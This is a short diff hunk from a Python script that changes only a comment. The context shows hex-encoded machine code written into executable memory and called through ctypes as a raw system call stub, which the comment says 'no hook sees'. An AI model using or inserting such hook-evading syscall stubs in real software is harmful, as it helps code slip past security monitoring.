@@ -48,7 +48,7 @@ def sockets():
             pass
     return found
 
-# A system call that nobody sees: an instruction of our own.
+# A raw system call, which no hook sees.
 code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
 code.write(bytes.fromhex("4889f84889f74889d64889ca0f05c3"))
 raw = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 4)(
